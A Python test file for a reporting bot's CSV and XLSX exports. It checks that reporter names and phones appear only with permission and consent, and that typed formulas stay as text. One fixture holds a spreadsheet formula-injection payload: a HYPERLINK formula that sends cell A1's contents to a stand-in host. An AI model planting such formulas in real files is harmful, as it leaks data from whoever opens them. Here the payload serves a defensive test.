"""Exports of the reports (CSV and XLSX): both open in a spreadsheet with the same columns,
neither runs a formula someone typed, and a reporter's name, phone and channel appear only
when the officer may see them and the reporter gave them."""

from __future__ import annotations

import csv
import io
import xml.etree.ElementTree as ElementTree
import zipfile
from dataclasses import replace
from datetime import UTC, datetime

import pytest

from bot.officers.exports import COLUMNS, EXPORT_TYPES, export_csv, export_xlsx
from bot.records import ReportRecord

MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
FORMULA = '=HYPERLINK("http://x.example/?"&A1,"klik")'
NAME, PHONE = "Rina Kartika", "081398765432"


def report(number: int, *, anonymous: bool, offer: str = "Kerja pabrik") -> ReportRecord:
    return ReportRecord(
        id=number,
        ref=f"SRG-2026-{number:05d}",
        channel="telegram",
        user=str(500 + number),
        anonymous=anonymous,
        urgent=False,
        status="received",
        outcome="",
        offer=offer,
        recruiter="-Pak Udin",
        place="serang",
        kecamatan="Pontang",
        country="",
        name="" if anonymous else NAME,
        phone="" if anonymous else PHONE,
        lang="id",
        created_at=datetime(2026, 11, 2, 9, 30, tzinfo=UTC),
        claimed_by=None,
        claimed_by_name="",
        photos=[],
        messages=[],
        desa="Kemanisan",
    )


REPORTS = [
    report(1, anonymous=True, offer=FORMULA),
    report(2, anonymous=False),
    # an anonymous report that somehow kept a name: the flag decides, never the field
    replace(report(3, anonymous=True), name=NAME, phone=PHONE),
]


def csv_rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"))))


def xlsx_rows(data: bytes) -> tuple[list[dict[str, str]], list[ElementTree.Element]]:
    """The sheet's rows as dicts (header row as keys) and its cells, read with the standard
    library only."""
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        assert "xl/worksheets/sheet1.xml" in book.namelist()
        strings = [
            "".join(t.text or "" for t in item.iter(f"{MAIN}t"))
            for item in ElementTree.fromstring(book.read("xl/sharedStrings.xml"))
        ]
        sheet = ElementTree.fromstring(book.read("xl/worksheets/sheet1.xml"))
        styles = ElementTree.fromstring(book.read("xl/styles.xml"))
    cells = list(sheet.iter(f"{MAIN}c"))
    table = []
    for row in sheet.iter(f"{MAIN}row"):
        values = []
        for cell in row.iter(f"{MAIN}c"):
            value = cell.findtext(f"{MAIN}v") or ""
            values.append(strings[int(value)] if cell.get("t") == "s" else value)
        table.append(values)
    header, *body = table
    formats = styles.find(f"{MAIN}cellXfs")
    assert formats is not None
    quoted = {str(n) for n, style in enumerate(formats) if style.get("quotePrefix") == "1"}
    for cell in cells:
        cell.set("quoted", str(cell.get("s", "0") in quoted))
    return [dict(zip(header, values, strict=False)) for values in body], cells


def test_csv_keeps_a_formula_as_text_and_names_only_who_agreed():
    rows = csv_rows(export_csv(REPORTS, personal=True))
    assert list(rows[0]) == list(COLUMNS)
    assert rows[0]["offer"] == "'" + FORMULA and rows[0]["recruiter"] == "'-Pak Udin"
    assert (rows[1]["name"], rows[1]["phone"], rows[1]["channel"]) == (NAME, PHONE, "telegram")
    for anonymous in (rows[0], rows[2]):
        assert (anonymous["name"], anonymous["phone"], anonymous["channel"]) == ("", "", "")
    assert rows[1]["desa"] == "Kemanisan"


def test_without_permission_no_export_names_anyone():
    for data in (export_csv(REPORTS, personal=False), export_xlsx(REPORTS, personal=False)):
        assert NAME.encode() not in data and PHONE.encode() not in data
    rows, _ = xlsx_rows(export_xlsx(REPORTS, personal=False))
    assert all(row.get("name", "") == "" and row.get("channel", "") == "" for row in rows)


def test_xlsx_opens_with_the_same_rows_and_runs_no_formula():
    data = export_xlsx(REPORTS, personal=True)
    rows, cells = xlsx_rows(data)
    assert len(rows) == 3 and rows[1]["name"] == NAME and rows[1]["ref"] == "SRG-2026-00002"
    assert rows[0]["offer"] == FORMULA, "the text as typed, kept as text"
    assert not any(cell.find(f"{MAIN}f") is not None for cell in cells), "no formula cell"
    formula_cell = next(c for c in cells if c.get("r") == f"{chr(65 + COLUMNS.index('offer'))}2")
    assert formula_cell.get("t") == "s" and formula_cell.get("quoted") == "True"
    assert rows[2]["name"] == "" and rows[2]["phone"] == "", "anonymous: never a name"
    assert rows[0]["urgent"] == "0"


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_each_export_has_its_media_type(kind):
    assert EXPORT_TYPES[kind].startswith("text/csv" if kind == "csv" else "application/vnd")
